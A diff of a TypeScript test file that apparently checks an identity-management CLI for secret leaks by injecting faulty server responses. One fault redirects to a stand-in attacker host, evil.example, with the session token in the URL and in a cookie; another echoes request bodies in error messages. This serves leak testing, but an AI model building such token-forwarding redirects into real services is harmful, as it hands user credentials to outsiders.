@@ -8,7 +8,7 @@ import {join} from 'node:path';
 import {fileURLToPath} from 'node:url';
 import {describe, expect, test} from 'vitest';
 import {mutants} from '../mutation/faults.js';
-import {type Fault, SECRETS, json, startStandIn} from '../mutation/stand-in.js';
+import {type Fault, SECRETS, STAND_IN_IDS, json, startStandIn} from '../mutation/stand-in.js';
 
 const root = fileURLToPath(new URL('../..', import.meta.url));
 const tsx = join(root, 'node_modules/.bin/tsx');
@@ -35,6 +35,9 @@ async function runCli(fault?: Fault, timeoutMs = 5000): Promise<Written> {
 			KRATOS_EXPIRED_FLOW_ID: config.expiredFlowId,
 			KRATOS_AAL1_SESSION_TOKEN: config.aal1SessionToken,
 			KRATOS_AAL1_FLOW_ID: config.aal1FlowId,
+			// The updates too: the browser flow's CSRF token travels in their bodies.
+			KRATOS_ALLOW_WRITES: '1',
+			KRATOS_TEST_IDENTITY_ID: STAND_IN_IDS.owner,
 			KRATOS_TIMEOUT_MS: String(timeoutMs),
 		};
 		const {code, stdout, stderr} = await new Promise<{code: number | null; stdout: string; stderr: string}>((resolve) => {
@@ -88,6 +91,8 @@ const leaky: Record<string, Fault> = {
 		}
 		return {...answer, body: JSON.stringify(flow)};
 	},
+	'echoes each update body in a 500 JSON error': (answer, {path, body}) =>
+		path === '/self-service/settings' ? json(500, {error: {code: 500, message: `could not save ${JSON.stringify(body)}`}}) : answer,
 	'returns the token in a Set-Cookie and a redirect Location': (answer, {path, request}) =>
 		path === '/self-service/settings/flows'
 			? {status: 303, headers: {location: `https://evil.example/?t=${request.headers['x-session-token']}`, 'set-cookie': `leak=${request.headers['x-session-token']}`}, body: ''}
